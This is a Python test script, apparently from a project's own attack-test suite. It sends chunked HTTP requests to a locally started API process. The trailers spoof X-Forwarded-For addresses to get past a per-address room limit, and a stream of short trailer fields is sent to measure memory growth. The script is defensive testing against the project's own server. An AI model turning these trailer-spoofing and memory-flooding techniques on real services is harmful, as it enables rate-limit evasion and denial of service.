"""Sends trailers, the fields behind a body in chunks (RFC 9112, section 7.1.2), to an API process.

    python -m tests.attacks.trailers [--megabytes N]

First one address behind a trusted proxy opens rooms, with a trailer that names another address each
time. Then one connection to each of two routes sends short trailers on and on. It prints how many
rooms were opened, how many bytes the process took, how long that was, and how large it grew.
"""

import argparse
import asyncio
import tempfile
import time
from collections import Counter
from contextlib import suppress
from pathlib import Path
from typing import Final

import uvloop

from tests.attacks.attackers import size_of
from tests.attacks.flood import own_fleet
from tests.flow.fleet import Member
from tests.room_keys import new_room_id
from tests.wire import Wire, wired

ATTEMPTS: Final = 40
ALLOWED: Final = "10/15"  # rooms that an address may open a minute, and have open
ADDRESS: Final = "198.51.100.7"
PIECE: Final = b"X: 1\r\n" * 10_000  # short fields take the most memory


def chunked(target: str, *headers: str, body: bytes = b"") -> bytes:
    """Return a request up to its trailers, which an empty line ends."""
    head = (f"{target} HTTP/1.1", "Host: x", "Transfer-Encoding: chunked", *headers, "", "")
    chunk = b"%x\r\n%b\r\n" % (len(body), body) if body else b""
    return "\r\n".join(head).encode() + chunk + b"0\r\n"


def naming(address: str) -> bytes:
    """Return the trailers that name an address, and the message's end."""
    return f"X-Forwarded-For: {address}\r\n\r\n".encode()


async def poured(wire: Wire, piece: bytes, most: int) -> int:
    """Send a piece repeatedly until the other side closes, or `most` bytes; return how many."""
    sent = 0
    with suppress(ConnectionError):
        while sent < most and not wire.is_gone:
            wire.write(piece)
            sent += len(piece)
            await wire.writer.drain()
            await asyncio.sleep(0)
    return sent


async def rooms_opened(port: int, address: str) -> Counter[str]:
    """Open rooms from one address, each with another in a trailer; count the answers by status."""
    statuses: Counter[str] = Counter()
    for number in range(ATTEMPTS):
        async with wired(port) as wire:
            wire.write(chunked("POST /api/rooms", f"X-Forwarded-For: {address}"))
            wire.write(naming(f"203.0.113.{number}"))
            statuses[(await wire.head()).split()[1].decode()] += 1
    return statuses


async def _endless(api: Member, target: str, most: int) -> None:
    before, began = size_of(api.process.pid).memory, time.monotonic()
    async with wired(api.port) as wire:
        wire.write(chunked(target))
        sent, took = await poured(wire, PIECE, most), time.monotonic() - began
        height = size_of(api.process.pid).memory
    await api.ready()
    after = size_of(api.process.pid).memory
    print(
        f"{target}: {sent / 1e6:.1f} MB of trailers taken in {took:.1f} s · "
        f"process before, at the height, after: {before:.0f}, {height:.0f}, {after:.0f} MB"
    )


async def main(megabytes: float) -> None:
    """Attack, and print."""
    with tempfile.TemporaryDirectory() as folder:
        async with own_fleet(Path(folder)) as (fleet, _):
            own = {"TRUSTED_PROXIES": "127.0.0.1", "ROOMS_PER_ADDRESS": ALLOWED}
            api = await fleet.api(**own)
            statuses = await rooms_opened(api.port, ADDRESS)
            print(f"rooms opened of {ATTEMPTS}, of which an address may 10: {statuses['201']}")
            for target in (f"GET /play/{new_room_id()}", f"POST /api/rooms/{new_room_id()}/events"):
                await _endless(api, target, int(megabytes * 1e6))


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--megabytes", type=float, default=20.0)
    uvloop.run(main(parser.parse_args().megabytes))
